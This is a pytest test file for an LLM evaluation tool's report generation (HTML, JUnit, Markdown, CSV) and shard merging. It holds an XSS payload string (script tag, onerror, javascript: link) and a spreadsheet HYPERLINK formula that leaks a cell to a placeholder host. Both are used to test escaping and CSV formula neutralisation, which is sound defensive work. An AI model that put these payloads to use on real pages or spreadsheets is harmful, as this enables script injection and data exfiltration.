"""The reviewer's report, JUnit XML, Markdown summary and shard merging, on runs made against the scripted server."""

from __future__ import annotations

import json
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from verifier.attribution.document import Comparison

from verifier import report
from verifier.app import report_files
from verifier.execution.merge import parse_shard, take_shard
from verifier.testbed.server import Reply, Script, TestServer

XSS = '<script>window.__xss=1</script><img src=x onerror="window.__xss=2"> <a href="javascript:window.__xss=3">click</a>'
RUN = ["--suite", "smoke", "--model", "m", "--quiet", "--mode", "chat,chat-stream", "--logprobs", "1", "--max-retries", "0"]
XSS_SAMPLE = "add-00"  # 3 + 4


def answer(req):
    m = re.search(r"What is (-?\d+) \+ (-?\d+)", req["messages"][-1]["content"])
    return int(m.group(1)) + int(m.group(2))


def reference(req):
    return Reply(content=str(answer(req)))


def requantized_with_payload(req):
    # Numerics changed (wrong answers, moved logprobs); one response carries an XSS payload, which also makes it a flip.
    a = answer(req)
    if a == 7:
        return Reply(content=XSS, logprob_shift=0.3)
    if a == 42:
        return Reply(content="I don't know.", logprob_shift=0.3)  # no answer extracted: None must stay JSON null
    return Reply(content=str(a + 1 if a % 5 else a), logprob_shift=0.3)


def build_world(tmp: Path, calibrated: dict[str, Path] | None = None) -> dict[str, Path]:
    """A calibrated golden, a regressed candidate run with its comparison.json, and the candidate's report.html."""
    from conftest import build_calibrated_golden

    from verifier.cli import main

    calibrated = calibrated or build_calibrated_golden(tmp)
    golden = calibrated["golden"]
    cand = tmp / "cand"
    with TestServer(Script(requantized_with_payload)) as srv:
        assert main(["run", *RUN, "--base-url", srv.url, "--out", str(cand)]) == 0
    assert main(["compare", str(cand), "--golden", str(golden)]) == 11
    html = tmp / "report.html"
    html.write_text(report_files.render_html(cand, golden, None), encoding="utf-8")
    return {"golden": golden, "cand": cand, "ref": calibrated["ref"], "html": html}


@pytest.fixture(scope="module")
def world(tmp_path_factory, calibrated_golden):
    return build_world(tmp_path_factory.mktemp("report"), calibrated_golden)


def test_html_is_one_self_contained_file(world):
    html = world["html"].read_text(encoding="utf-8")
    # No network: nothing loaded from a URL (the CSP also forbids it), scripts and styles inline.
    assert not re.search(r"""(?:src|href|action)\s*=\s*["']?\s*(?:https?:)?//""", html, flags=re.I)
    assert "<link rel=\"stylesheet\"" not in html and not re.search(r"<script[^>]*\ssrc=", html)
    assert "default-src 'none'" in html
    assert html.count("<script") == 2  # the JSON data block and our own code; nothing from a response
    assert "<svg" in html and "<style>" in html


def test_html_contents(world):
    html = world["html"].read_text(encoding="utf-8")
    doc = json.loads((world["cand"] / "comparison.json").read_text())
    assert doc["status"] == "quantization_regression"
    assert 'id="status">quantization_regression<' in html and 'id="exit-code">11<' in html
    assert doc["meaning"].replace("'", "&#39;") in html
    assert 'class="metric-table"' in html and ">accuracy<" in html and "0.000488" in html  # McNemar p
    assert "logprob_drift" in html and "prompt_tokens_mismatch" in html  # attribution evidence
    assert 'class="card flip" id="s-add-00"' in html  # a flipped sample, side by side, deep-linkable
    assert "<details><summary>request" in html and "candidate raw response" in html
    assert 'class="diff"' in html  # the answer difference is highlighted
    assert "Prompt-token fingerprint" in html and "0 of 20 paired samples differ" in html
    assert "Latency distribution" in html and "finish_reason mix" in html
    header = json.loads((world["cand"] / "run.json").read_text())
    assert header["suites"]["smoke"]["dataset_sha256"] in html  # provenance
    assert "Authorization" not in html and "Bearer" not in html


def test_xss_payload_is_escaped_everywhere(world):
    html = world["html"].read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__xss=1&lt;/script&gt;" in html  # shown as text in the flip card
    assert "<script>window.__xss" not in html
    assert "<img src=x" not in html and 'onerror="window' not in html
    assert 'href="javascript:' not in html
    data = re.search(r'<script type="application/json" id="sample-data">(.*?)</script>', html, flags=re.S).group(1)
    assert "<" not in data and ">" not in data and "&" not in data
    assert "\\u003cscript\\u003ewindow.__xss=1" in data
    table = json.loads(data, parse_constant=lambda c: pytest.fail(f"{c} is not JSON"))
    i = table["cols"].index("c_content")
    assert any(XSS in (r[i] or "") for r in table["rows"])  # c_content survives the round trip intact


def test_script_json_escapes_line_separators():
    s = report.script_json({"x": "a\u2028b\u2029c</script><!--&"})
    assert "\u2028" not in s and "\u2029" not in s and "<" not in s and ">" not in s and "&" not in s
    assert json.loads(s) == {"x": "a\u2028b\u2029c</script><!--&"}


def test_anchor_is_id_safe_and_reversible():
    assert report.anchor("add-00") == "add-00"
    a = report.anchor('multi/turn "x"_1')
    assert re.fullmatch(r"[A-Za-z0-9_-]+", a)
    assert report.anchor("a_1") != report.anchor("a/1")


def test_answer_diff_opens_tool_call_arguments():
    g = json.dumps([{"name": "get_weather", "arguments": {"city": "Paris", "unit": "c"}}])
    c = json.dumps([{"name": "get_weather", "arguments": '{"city": "Paris", "unit": "f"}'}])
    rows = {r["path"]: r for r in report.answer_diff(g, c)}
    assert rows["$[0].arguments.unit"]["diff"] and not rows["$[0].arguments.city"]["diff"]
    assert not rows["$[0].name"]["diff"]


def test_write_all_outputs(world, tmp_path, monkeypatch):
    doc = Comparison.read(world["cand"] / "comparison.json")
    run = tmp_path / "cand"
    shutil.copytree(world["cand"], run)
    step = tmp_path / "step_summary.md"
    step.write_text("earlier step\n")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(step))
    paths = report_files.write_all(run, doc)
    assert paths["html"] == run / "report.html" and paths["html"].stat().st_size > 10_000
    # CSV: the per-sample comparison, one row per record
    import pandas as pd

    df = pd.read_csv(run / "samples.csv")
    assert len(df) == 40 and {"suite", "sample_id", "flip", "g_answer", "c_answer", "pt_mismatch"} <= set(df.columns)
    assert set(df.loc[df["sample_id"] == XSS_SAMPLE, "flip"]) == {"regressed"}
    # JUnit: parses, one testcase per check, failures carry the evidence
    root = ET.parse(run / "junit.xml").getroot()
    cases = root.iter("testcase")
    names = {c.get("name"): c for c in cases}
    assert "infra error budget" in names
    failures = [c for c in names.values() if c.find("failure") is not None]
    assert {c.get("name") for c in failures} >= {"smoke: quality/accuracy", "smoke: logprob_drift"}
    assert "accuracy: 1.0 -> 0.4" in names["smoke: quality/accuracy"].find("failure").text
    assert names["infra error budget"].find("failure") is None
    assert int(root.find("testsuite").get("failures")) == len(failures)
    # Markdown: status line, metric table, fired signals, top flips; appended to the step summary
    md = (run / "summary.md").read_text()
    assert md.startswith("## verifier: ") and "`quantization_regression` (exit 11)" in md
    assert "| smoke | accuracy |" in md and "Signals that fired" in md and "`smoke/add-00`" in md
    assert step.read_text() == "earlier step\n" + md


def test_junit_for_a_pass_and_for_incomplete(world):
    """A document from before `checks`: one testcase per evidence item, and the infra budget."""
    import dataclasses

    from verifier.attribution.document import Side
    from verifier.types import Evidence

    doc = dataclasses.replace(
        Comparison.read(world["cand"] / "comparison.json"), checks=None,
        frontend=Side("pass", (Evidence("new_findings", "s", "pass", "ok"),)),
        quantization=Side("inconclusive", (Evidence("quality", "s", "inconclusive", "wide", metric="acc"),)),
        infra={"count": 5, "total": 10, "rate": 0.5, "budget": 0.02})
    root = ET.fromstring(report.junit_xml(doc))
    cases = {c.get("name"): c for c in root.iter("testcase")}
    assert cases["s: new_findings"].find("failure") is None
    assert cases["s: quality/acc"].find("skipped") is not None
    assert "5/10" in cases["infra error budget"].find("failure").text


def test_render_is_a_pure_function_of_run_golden_and_comparison(world, tmp_path):
    """html.render never reads the golden back from the path recorded in the comparison: the caller passes it."""
    import dataclasses

    from verifier.golden import store

    doc = Comparison.read(world["cand"] / "comparison.json")
    run, golden = report_files.read_run(world["cand"]), report_files.read_golden(world["golden"])
    html = report.render(run, golden, doc)
    assert html == report_files.render_html(world["cand"], world["golden"], None)
    moved = dataclasses.replace(doc, golden={**(doc.golden or {}), "path": str(tmp_path / "gone")})
    assert report.render(run, golden, moved) == html
    paths = report_files.write_all(shutil.copytree(world["cand"], tmp_path / "c"), moved,
                                   golden=store.load(world["golden"]))
    assert paths["html"].read_text(encoding="utf-8") == html


def test_single_run_report(world):
    html = report_files.render_html(world["ref"], None, None)
    assert 'id="status">single run<' in html and ">accuracy<" in html
    assert "Flipped samples" not in html and 'id="sample-data"' in html


def test_report_command(world, tmp_path, cli):
    out = tmp_path / "reports" / "smoke.html"
    code, stdout, err = cli("report", world["cand"], "--golden", world["golden"], "-o", out, "--csv", tmp_path / "s.csv")
    assert code == 0, err
    assert out.exists() and "quantization_regression" in out.read_text() and (tmp_path / "s.csv").exists()
    assert "quantization_regression" in stdout
    # without comparison.json it is computed (and the run dir gets one, as `verifier compare` would write)
    run = tmp_path / "fresh"
    shutil.copytree(world["cand"], run)
    (run / "comparison.json").unlink()
    code, _, err = cli("report", run, "--golden", world["golden"], "-o", tmp_path / "b.html")
    assert code == 0, err
    assert 'id="status">quantization_regression<' in (tmp_path / "b.html").read_text()
    # single run, default output path
    code, _, err = cli("report", world["ref"])
    assert code == 0, err
    assert (world["ref"] / "report.html").exists()
    # usage errors: one line, exit 2
    code, _, err = cli("report", tmp_path / "nope")
    assert code == 2 and err.count("\n") == 1 and "not a run directory" in err
    code, _, err = cli("report", world["cand"], "--golden", tmp_path / "nogolden", "-o", tmp_path / "c.html")
    assert code == 2 and err.count("\n") == 1


def test_shard_selection():
    xs = list(range(10))
    shards = [take_shard(xs, f"{i}/3") for i in (1, 2, 3)]
    assert sorted(sum(shards, [])) == xs and shards[0] == [0, 3, 6, 9]
    assert take_shard(xs, None) == xs
    for bad in ("0/3", "4/3", "a/b", "3"):
        with pytest.raises(ValueError):
            parse_shard(bad)


def make_shards(tmp_path, monkeypatch, n=2):
    """Shard runs as CI would make them: each job runs every n-th sample (`--shard i/n`)."""
    from verifier.app import collect as cli_mod  # select() lives in the app layer
    from verifier.cli import main

    orig = cli_mod.select
    dirs = []
    with TestServer(Script(reference)) as srv:
        for i in range(1, n + 1):
            monkeypatch.setattr(cli_mod, "select", lambda s, limit, seed, i=i: take_shard(orig(s, limit, seed), f"{i}/{n}"))
            d = tmp_path / f"shard-{i}"
            assert main(["run", *RUN, "--base-url", srv.url, "--out", str(d)]) == 0
            dirs.append(d)
    monkeypatch.setattr(cli_mod, "select", orig)
    return dirs


def test_merge_shards_then_gate(world, tmp_path, monkeypatch, cli):
    shards = make_shards(tmp_path, monkeypatch)
    assert [json.loads((d / "run.json").read_text())["suites"]["smoke"]["samples"] for d in shards] == [10, 10]
    out = tmp_path / "merged"
    code, stdout, err = cli("merge", *shards, "--out", out, "--quiet")
    assert code == 0, err
    hdr = json.loads((out / "run.json").read_text())
    assert hdr["suites"]["smoke"]["samples"] == 20 and hdr["suites"]["smoke"]["requests"] == 40
    assert [s["run_id"] for s in hdr["shards"]] == ["shard-1", "shard-2"]
    # same dataset hash as the unsharded golden run: the union is the whole selection
    ref = json.loads((world["ref"] / "run.json").read_text())
    assert hdr["suites"]["smoke"]["dataset_sha256"] == ref["suites"]["smoke"]["dataset_sha256"]
    assert len((out / "responses.jsonl").read_text().splitlines()) == 40
    # merge builds the header typed: the RunHeader it returns is run.json as written, and the same shards merged
    # again give the same header but for the run's own name
    from verifier.execution import merge

    again = merge.merge(list(shards), tmp_path / "merged-again")
    written = json.loads((tmp_path / "merged-again" / "run.json").read_text())
    assert again.to_json() == written and again.shard_set == hdr["shard_set"]
    assert {k: v for k, v in written.items() if k != "run_id"} == {k: v for k, v in hdr.items() if k != "run_id"}
    summary = json.loads((out / "summary.json").read_text())
    assert summary["suites"]["smoke"]["metrics"]["accuracy"]["value"] == 1.0
    code, _, err = cli("compare", out, "--golden", world["golden"])
    assert code == 0, err
    # refusing to merge into an existing run
    code, _, err = cli("merge", *shards, "--out", out)
    assert code == 2 and "already holds a run" in err


def test_merge_rejects_conflicting_versions(tmp_path, monkeypatch, cli):
    a, b = make_shards(tmp_path, monkeypatch)
    hb = json.loads((b / "run.json").read_text())
    hb["suites"]["smoke"]["version"] = "0"
    (b / "run.json").write_text(json.dumps(hb))
    code, _, err = cli("merge", a, b, "--out", tmp_path / "m")
    assert code == 2 and err.count("\n") == 1 and "conflicting smoke versions" in err
    assert not (tmp_path / "m" / "run.json").exists()
    hb["suites"]["smoke"]["version"] = json.loads((a / "run.json").read_text())["suites"]["smoke"]["version"]
    hb["endpoint"]["model"] = "other"
    (b / "run.json").write_text(json.dumps(hb))
    code, _, err = cli("merge", a, b, "--out", tmp_path / "m")
    assert code == 2 and "model" in err


def test_a_metric_without_a_margin_draws_no_margin_line_and_never_crashes():
    """A metric judged without a margin (margin None: uncalibrated) used to crash the report (`-None`), exit 1."""
    from verifier.attribution.document import MetricResult
    from verifier.report.views import delta_chart

    metrics = {"s": {
        "accuracy": MetricResult(golden=0.9, candidate=0.7, delta=-0.2, ci=[-0.3, -0.1], margin=None, p_value=None, n=20,
                                 verdict="inconclusive"),
        "pass_rate": MetricResult(golden=0.5, candidate=0.5, delta=0.0, ci=[-0.1, 0.1], margin=0.05, p_value=None, n=20,
                                  verdict="pass")}}
    rows = {r["label"]: r for r in delta_chart(metrics)["rows"]}
    assert rows["s/accuracy"]["x_m"] is None and rows["s/pass_rate"]["x_m"] is not None


FORMULAS = ['=HYPERLINK("http://x.test/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def formula_answers(req):
    a = answer(req)
    return Reply(content=FORMULAS[a % len(FORMULAS)])


def test_samples_csv_cells_never_start_a_formula(calibrated_golden, tmp_path, cli):
    """Issue 49 item 12: an answer (or any text cell) starting with =, +, -, @, tab or CR is written with a leading
    `'` (OWASP), so a spreadsheet shows it as text; numbers stay numbers."""
    import csv

    run = tmp_path / "cand"
    with TestServer(Script(formula_answers)) as srv:
        assert cli("run", *RUN, "--base-url", srv.url, "--out", run)[0] == 0
    from verifier.app.gate import compare_run
    from verifier.app.spec import CompareSpec

    report_files.write_all(run, compare_run(run, CompareSpec(str(calibrated_golden["golden"]), 0.02)))
    with (run / "samples.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not _number(c))]
    assert len({len(r) for r in rows}) == 1  # a CR inside a cell is quoted: no row is cut in two
    answers = {c for c in cells if c.startswith("'")}
    assert {"'" + f for f in FORMULAS} <= answers, sorted(answers)[:10]


def _number(c: str) -> bool:
    try:
        float(c)
    except ValueError:
        return False
    return True
